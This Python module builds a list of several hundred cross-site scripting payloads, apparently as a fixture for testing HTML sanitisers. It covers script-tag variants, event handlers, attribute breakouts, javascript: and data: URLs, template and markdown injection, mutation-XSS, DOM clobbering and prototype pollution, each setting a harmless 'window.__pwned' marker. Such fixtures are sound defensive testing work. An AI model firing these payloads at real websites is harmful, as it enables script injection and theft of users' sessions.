"""Three hundred and more texts that become a script wherever a page takes a text for anything else. Each would set ``window.__pwned``."""

import base64
from itertools import product
from typing import Final
from urllib.parse import quote

_RUN: Final = "window.__pwned=1"
_BASE64: Final = base64.b64encode(_RUN.encode()).decode()
_CODES: Final = ",".join(str(ord(letter)) for letter in _RUN)
_ENTITIES: Final = "".join(f"&#{ord(letter)};" for letter in _RUN)
_HEX: Final = "".join(f"\\x{ord(letter):02x}" for letter in _RUN)

# Elements that take a script with them.
_SCRIPTS: Final = (
    f"<script>{_RUN}</script>",
    f"<SCRIPT>{_RUN}</SCRIPT>",
    f"<ScRiPt >{_RUN}</ScRiPt >",
    f"<script\n>{_RUN}</script\n>",
    f"<script/x>{_RUN}</script>",
    f"<script>{_RUN}",
    f"<script>{_RUN}//",
    f"<<script>{_RUN}//<</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script src=data:text/javascript,{quote(_RUN)}></script>",
    f"<script src='data:text/javascript;base64,{_BASE64}'></script>",
    f"<script type=module>{_RUN}</script>",
    f"<script type=text/javascript>{_RUN}</script>",
    f"<script nonce=''>{_RUN}</script>",
    f"<script async>{_RUN}</script>",
    f"<script>eval(atob('{_BASE64}'))</script>",
    f"<script>eval(String.fromCharCode({_CODES}))</script>",
    f"<script>Function('{_HEX}')()</script>",
    f"<script>setTimeout('{_RUN}')</script>",
    f"</script><script>{_RUN}</script>",
    f"--></script><script>{_RUN}</script><!--",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</noscript><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<!--<script>{_RUN}</script>-->",
    f"<!--><script>{_RUN}</script>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script href='data:text/javascript,{quote(_RUN)}'/></svg>",
    f"<svg><script>{_ENTITIES}</script></svg>",
    f"<math><script>{_RUN}</script></math>",
    f"<template><script>{_RUN}</script></template>",
    f"<xml><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{_RUN}</x:script></xml>",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"\u2039script\u203a{_RUN}\u2039/script\u203a",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{_RUN}&amp;lt;/script&amp;gt;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{_RUN}\\x3c/script\\x3e",
    f"%3Cscript%3E{quote(_RUN)}%3C/script%3E",
)

# Elements that do something by themselves, and the word by which they do it.
_BY_THEMSELVES: Final = (
    ("img src=x", "onerror"),
    ("img src=", "onerror"),
    ("image src=x", "onerror"),
    ("svg", "onload"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x", "onbegin"),
    ("svg><image href=x", "onerror"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("iframe", "onload"),
    ("iframe src=about:blank", "onload"),
    ("object data=x", "onerror"),
    ("embed src=x", "onload"),
    ("input autofocus", "onfocus"),
    ("input type=image src=x", "onerror"),
    ("textarea autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("a href=# autofocus tabindex=1", "onfocus"),
    ("p contenteditable autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("dialog open", "onclose"),
    ("video src=x", "onerror"),
    ("video><source src=x", "onerror"),
    ("video autoplay", "onloadstart"),
    ("audio src=x", "onerror"),
    ("audio><source src=x", "onerror"),
    ("link rel=stylesheet href=x", "onerror"),
    ("style", "onload"),
    ("script src=x", "onerror"),
    ("track src=x", "onerror"),
    ("marquee", "onstart"),
    ("p style=animation:x", "onanimationstart"),
    ("p style=transition:all", "ontransitionend"),
    ("p", "onmouseover"),
    ("p", "onpointerenter"),
    ("p", "onclick"),
    ("form><button", "onfocus"),
)
# How the word and its script may be written.
_WRITTEN: Final = (
    "<{element} {event}={run}>",
    "<{element}/{event}='{run}'>",
    '<{element}\t{event} = "{run}" x',
    "<{element} {event}={entities}>",
)

# Out of an attribute, a string, a comment, a tag that was begun.
_BREAKOUTS: Final = tuple(
    f"{before}{after}"
    for before, after in product(
        ("'", '"', "`", "'>", '">', "`>", "\\'", '\\"', "/>", "-->"),
        (
            f" autofocus onfocus={_RUN} x=",
            f"<img src=x onerror={_RUN}>",
            f"<svg/onload={_RUN}>",
            f";{_RUN};//",
        ),
    )
)

# Addresses that are scripts.
_ADDRESSES: Final = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f" javascript:{_RUN}",
    f"java\tscript:{_RUN}",
    f"java\nscript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"javascript&colon;{_RUN}",
    f"javascript&#58;{_RUN}",
    f"&#106;avascript:{_RUN}",
    f"javascript://example.com/%0a{_RUN}",
    f"javascript://%0d%0a{_RUN}//https://example.com",
    f"https://example.com/?u=javascript:{_RUN}",
    f"http://javascript:{_RUN}@example.com",
    f"javascript:/*--></title></style></textarea></script><svg/onload='{_RUN}'>",
    f"data:text/html,<script>{_RUN}</script>",
    f"data:text/html;base64,{base64.b64encode(f'<script>{_RUN}</script>'.encode()).decode()}",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{_RUN}'/>",
    f"vbscript:{_RUN}",
    f"view-source:javascript:{_RUN}",
    f"blob:javascript:{_RUN}",
    f"filesystem:javascript:{_RUN}",
    f"//example.com/'onfocus={_RUN} autofocus x='",
    f'https://example.com/"onmouseover="{_RUN}',
    f"https://example.com/<svg/onload={_RUN}>",
    f"www.example.com/'><img src=x onerror={_RUN}>",
    f"mailto:a@example.com?subject=<img src=x onerror={_RUN}>",
    f"a'onfocus={_RUN}'@example.com",
    f"tel:+34600000000'onclick='{_RUN}",
    f"intent:#Intent;S.browser_fallback_url=javascript:{_RUN};end",
    f"whatsapp://send?text=javascript:{_RUN}",
    f"<a href=javascript:{_RUN}>mira</a>",
    f"<a href='java&#x09;script:{_RUN}'>mira</a>",
    f"<form action=javascript:{_RUN}><button>mira</button></form>",
    f"<button form=x formaction=javascript:{_RUN}>mira</button>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.__pwned=1&lt;/script&gt;'></iframe>",
    f"<object data=javascript:{_RUN}></object>",
    f"<embed src=javascript:{_RUN}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>opener.__pwned=1</script>'>",
    "<base href=javascript:/>",
    f"<svg><a xlink:href=javascript:{_RUN}><text y=9>mira</text></a></svg>",
    f"<math href=javascript:{_RUN}>mira</math>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={_RUN}/>#x'/></svg>",
)

# Words that mean something to a template, a formatter, a style sheet, or an object.
_OTHERS: Final = (
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"{{{{$on.constructor('{_RUN}')()}}}}",
    f"{{{{[].pop.constructor('{_RUN}')()}}}}",
    f"${{{_RUN}}}",
    f"#{{{_RUN}}}",
    f"<%= {_RUN} %>",
    f"[[{_RUN}]]",
    f"{{% {_RUN} %}}",
    f"*<img src=x onerror={_RUN}>*",
    f"_<svg/onload={_RUN}>_",
    f"~<svg/onload={_RUN}>~",
    f"```<script>{_RUN}</script>```",
    f"`<img src=x onerror={_RUN}>`",
    f"> <img src=x onerror={_RUN}>",
    f"- <img src=x onerror={_RUN}>",
    f"[mira](javascript:{_RUN})",
    f'![mira](x"onerror="{_RUN})',
    f'[mira](https://example.com"onmouseover="{_RUN})',
    f'<https://example.com/"onmouseover="{_RUN}>',
    f"<style>@import 'javascript:{_RUN}';</style>",
    f"<style>*{{background:url(javascript:{_RUN})}}</style>",
    f'<p style="width:expression({_RUN})">',
    f"<p style=\"background:url('javascript:{_RUN}')\">",
    f"<link rel=stylesheet href='data:text/css,*{{background:url(javascript:{_RUN})}}'>",
    f"<link rel=import href='data:text/html,<script>{_RUN}</script>'>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'></noscript>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={_RUN}&gt;'>",
    f"<svg></p><style><a id='</style><img src=x onerror={_RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_RUN}>",
    f"<title><a title='</title><img src=x onerror={_RUN}>'>",
    f"<textarea><a title='</textarea><img src=x onerror={_RUN}>'>",
    f"<xmp><a title='</xmp><img src=x onerror={_RUN}>'>",
    f"<select><style><img src=x onerror={_RUN}></style></select>",
    f"<table><td background=javascript:{_RUN}>",
    f"<template shadowrootmode=open><img src=x onerror={_RUN}></template>",
    "<a id=__pwned>",
    "<img name=__pwned>",
    "<form id=__pwned><input name=x></form>",
    "<iframe name=__pwned></iframe>",
    "<object id=__pwned></object>",
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    f'{{"__proto__":{{"__pwned":1}},"x":"<img src=x onerror={_RUN}>"}}',
    f'"}}]}};{_RUN};//',
    f"';{_RUN};'",
    f"\u2028{_RUN}\u2029",
    f"\u202e<img src=x onerror={_RUN}>",
    f"\ufeff<img src=x onerror={_RUN}>",
    f"\u00a0<img src=x onerror={_RUN}>\u200b",
    f"<img\u000csrc=x\u000conerror={_RUN}>",
    f"<img src=x onerror\x0b={_RUN}>",
    f"<img src=x:x onerror={_RUN}//" + "x" * 300,
    f"<svg onload={_RUN}>" + "👍" * 40,
    f"<IMG SRC=X ONERROR={_RUN}>",
    f"<img/src=`x`onerror={_RUN}>",
    f"<a onpointerrawupdate={_RUN}>" + "\n" * 5 + "mira",
    f"<input onbeforeinput={_RUN} autofocus contenteditable>",
    f"<x onclick={_RUN} tabindex=1 autofocus>mira</x>",
)


def _all() -> tuple[str, ...]:
    by_themselves = (
        form.format(element=element, event=event, run=_RUN, entities=_ENTITIES)
        for element, event in _BY_THEMSELVES
        for form in _WRITTEN
    )
    return tuple(dict.fromkeys((*_SCRIPTS, *by_themselves, *_BREAKOUTS, *_ADDRESSES, *_OTHERS)))


PAYLOADS: Final = _all()
